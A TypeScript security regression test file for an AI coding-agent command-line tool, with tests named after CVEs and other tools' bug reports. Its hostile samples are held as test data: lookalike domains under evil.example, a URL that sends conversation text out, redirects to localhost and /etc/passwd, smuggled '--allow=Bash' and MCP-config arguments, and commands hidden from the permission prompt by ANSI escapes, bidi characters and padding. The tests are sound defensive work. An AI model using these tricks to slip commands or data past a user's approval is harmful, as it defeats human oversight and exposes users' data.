import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, request } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { NETWORK, type Network } from '../../src/architect/tools/web/network.ts';
import { createWebFetch } from '../../src/architect/tools/web-fetch.ts';
import type { Action } from '../../src/session/permission.ts';
import { sanitize } from '../../src/text/sanitize.ts';
import { openApp } from '../support/app.ts';
import { makeHostileRepo } from './hostile-repo.ts';
import { answersTo, type Call, inTerminal, unharmed } from './scripted.ts';

vi.setConfig({ testTimeout: 60_000 });

describe('CVE-2026-24052', () => {
  it('CVE-2026-24052: a rule for a host means that host, and nothing that looks like it', async () => {
    const repo = await makeHostileRepo();
    const urls = [
      'https://docs.python.org.evil.example/',
      'https://docs.python.org@evil.example/',
      'https://docs.python.org%2eevil.example/',
      'https://docs.python.org%40evil.example/',
      'https://evil.example/docs.python.org',
      'https://evil.example#docs.python.org',
      'https://evil.example?docs.python.org',
      'https://docs.python.org:8443/',
      'https://xdocs.python.org/',
      'https://python.org/',
      'https://docs。python。org.evil.example/',
      'docs.python.org.evil.example',
      'https://docs\u200b.python.org.evil.example/',
    ];
    const calls = urls.map((url): Call => ['web_fetch', { url }]);
    const { results } = await answersTo(repo, calls, { args: ['--allow', 'WebFetch(domain:docs.python.org)'] });
    for (const [index, result] of results.entries())
      expect(result, urls[index]).toMatch(/not allowed|no URL|names a user/);
  });

  it('CVE-2026-24052: what goes out with the address is shown before anything goes', async () => {
    const repo = await makeHostileRepo();
    const { terminal, server } = await inTerminal(repo, [
      ['web_fetch', { url: 'https://docs.python.org.evil.example/collect?words=all-that-was-said&more=1' }],
    ]);
    await terminal.waitFor('Fetch a page?');
    const shown = terminal.screen().join('\n');
    expect(shown).toContain('https://docs.python.org.evil.example/collect?words=all-that-was-said&more=1');
    expect(shown).toContain('It goes to docs.python.org.evil.example');
    terminal.type('n');
    await terminal.waitFor('Saved');
    unharmed(repo, server, terminal.raw());
  });

  it('CVE-2026-24052: a redirect to another host needs leave anew, and one into this machine gets none', async () => {
    const repo = await makeHostileRepo();
    const port = new URL(repo.listener).port;
    const targets = ['https://docs.python.org.evil.example/x', `http://127.0.0.1:${port}/`, 'file:///etc/passwd'];
    const asked: Action[] = [];
    for (const location of targets) {
      const connected: unknown[] = [];
      const outcome = await fetchWith(location, connected, async (action) => {
        asked.push(action);
        return false;
      });
      expect(outcome.isError).toBe(true);
      expect(connected).toEqual(['docs.python.org']);
    }
    expect(asked).toEqual([{ kind: 'fetch', url: targets[0], host: 'docs.python.org.evil.example' }]);
    expect(repo.harm()).toEqual([]);
  });
});

/** Fetches a page that answers with a redirect, over a network of one public machine. */
async function fetchWith(location: string, connected: unknown[], mayAlso: (action: Action) => Promise<boolean>) {
  const web = createServer((_, response) => void response.writeHead(302, { location }).end());
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  const address = web.address();
  const network: Network = {
    ...NETWORK,
    lookup: async () => ['93.184.215.14'],
    request: (options) => {
      connected.push((options.headers as Record<string, string>).host);
      return request({
        ...options,
        protocol: 'http:',
        host: '127.0.0.1',
        port: typeof address === 'object' ? address?.port : 0,
      });
    },
  };
  const tool = createWebFetch({ version: '0', readPage: async (html) => ({ text: html, isPlain: true }), network });
  const context = { workspace: '/', signal: new AbortController().signal, sanitize, mayAlso };
  const planned = await tool.plan({ url: 'https://docs.python.org/' }, context);
  const outcome = planned.ok ? await planned.run(context) : planned.outcome;
  await new Promise((resolve) => web.close(resolve));
  return outcome;
}

it.skipIf(process.platform !== 'linux')('CVE-2026-22812: no port is open while it runs', async () => {
  const repo = await makeHostileRepo();
  const { terminal, server } = await inTerminal(repo, [['bash', { command: 'true' }]]);
  await terminal.waitFor('Run a command?');
  expect(listeningOf(terminal.pid)).toEqual([]);
  expect(listeningOf(process.pid).length).toBeGreaterThan(0);
  terminal.type('n');
  await terminal.waitFor('Saved');
  unharmed(repo, server, terminal.raw());
});

/** The sockets that a process waits for strangers on, as the kernel lists them. */
function listeningOf(pid: number): string[] {
  const folder = `/proc/${pid}/fd`;
  const sockets = new Set(
    readdirSync(folder).flatMap((name) => {
      try {
        return /^socket:\[(\d+)\]$/.exec(readlinkSync(join(folder, name)))?.[1] ?? [];
      } catch {
        return [];
      }
    }),
  );
  const LISTEN = '0A';
  return ['tcp', 'tcp6']
    .flatMap((name) =>
      existsSync(`/proc/net/${name}`) ? readFileSync(`/proc/net/${name}`, 'utf8').split('\n').slice(1) : [],
    )
    .map((line) => line.trim().split(/\s+/))
    .filter(([, , , state, , , , , , inode]) => state === LISTEN && inode !== undefined && sockets.has(inode))
    .map(([, local = '']) => local);
}

it('CVE-2026-46406: what is passed in files lies in a folder of its own, under a name that nobody foresees', async () => {
  const repo = await makeHostileRepo();
  const temp = join(repo.home, 'temp');
  mkdirSync(temp);
  for (const name of ['backend-architect', 'claude', 'text.md', 'response.md'])
    symlinkSync(repo.outside, join(temp, name));
  const editor = join(repo.home, 'editor.sh');
  const log = join(repo.home, 'edited.txt');
  writeFileSync(
    editor,
    `#!/bin/sh\nstat -c '%a %n' "$1" "$(dirname "$1")" >> '${log}'\necho 'A lending library' > "$1"\n`,
  );
  chmodSync(editor, 0o755);
  for (const _ of [1, 2]) {
    const terminal = openApp(repo, {
      args: ['-p', 'backend-architect'],
      env: { TMPDIR: temp, EDITOR: editor, BACKEND_ARCHITECT_MODEL: 'planner' },
      columns: 100,
      rows: 40,
    });
    await terminal.waitFor(/design/i);
    terminal.press('ctrl-g');
    await terminal.waitFor('A lending library');
    terminal.kill('SIGTERM');
    await terminal.exit;
  }
  const lines = readFileSync(log, 'utf8').trim().split('\n');
  expect(lines.map((line) => line.slice(0, 3))).toEqual(['600', '700', '600', '700']);
  expect(new Set(lines.map((line) => line.slice(4))).size).toBe(4);
  for (const line of lines) expect(line.slice(4).startsWith(`${temp}/backend-architect-`)).toBe(true);
  expect(readdirSync(temp).sort()).toEqual(['backend-architect', 'claude', 'response.md', 'text.md']);
  expect(repo.harm()).toEqual([]);
});

it('deep link: what stands behind -- is the brief, though it looks like an option', async () => {
  const repo = await makeHostileRepo();
  const server = JSON.stringify({ mcpServers: { linked: { command: 'sh', args: ['-c', repo.canary('linked')] } } });
  for (const words of [`--mcp-config=${server}`, '--allow=Bash', '--trust']) {
    const {
      run,
      results,
      server: api,
    } = await answersTo(repo, [['bash', { command: 'touch PWNED-1' }]], { brief: ['--', words] });
    expect(run.code).toBe(0);
    expect(results[0]).toContain('not allowed');
    expect(api.requests[0]?.text).toContain(JSON.stringify(words).slice(1, -1));
  }
});

const isAsking = (screen: string[]): boolean => screen.join('\n').includes('Run a command?');

it('gemini-cli #8636, #26807, codex #15974: nothing that a terminal obeys hides a part of what is asked about', async () => {
  const repo = await makeHostileRepo();
  const hidden = 'touch PWNED-hidden';
  const command = `echo ok \u001b[2K\u001b[1A\u001b[8m\r; ${hidden} \u001b]8;;https://evil.example\u0007\u202e\u200b\u009b8m # \u001b]8;;`;
  const { terminal, server } = await inTerminal(repo, [
    ['bash', { command }],
    ['bash', { command: `echo ok${' '.repeat(3000)}; ${hidden}` }],
    ['bash', { command: `echo ok${'\n'.repeat(200)}${hidden}` }],
    ['write', { path: 'src/a.ts', content: `x\u001b[2K\u001b[8m${hidden}\u202e\r\n` }],
    ['web_fetch', { url: `https://evil.example/${'a'.repeat(900)}?\u001b[2K${'secret'}` }],
  ]);
  await terminal.waitFor('Run a command?');
  const shown = terminal.screen().join('\n');
  for (const part of [hidden, '\\x1b[2K', '\\x1b[8m', '\\x1b]8;;', 'U+202E', 'U+200B']) expect(shown).toContain(part);
  terminal.type('n');
  await terminal.waitFor((screen) => isAsking(screen) && !screen.join('\n').includes('U+202E'));
  expect(terminal.screen().join('\n')).toContain(hidden);
  terminal.type('n');
  await terminal.waitFor((screen) => isAsking(screen) && !screen.join('\n').includes(hidden));
  terminal.press('end');
  await terminal.waitFor(hidden);
  terminal.type('n');
  await terminal.waitFor('Change a file?');
  expect(terminal.screen().join('\n')).toMatch(/\+x\\x1b\[2K\\x1b\[8mtouch PWNED-hidden‹U\+202E›/);
  terminal.type('n');
  await terminal.waitFor('Fetch a page?');
  terminal.press('end');
  await terminal.waitFor('secret');
  terminal.type('n');
  await terminal.waitFor('Saved');
  expect(terminal.raw()).not.toMatch(/\u001b\[8m|\u001b\]8;;https:\/\/evil|\u202e|\u009b/);
  unharmed(repo, server, terminal.raw());
});
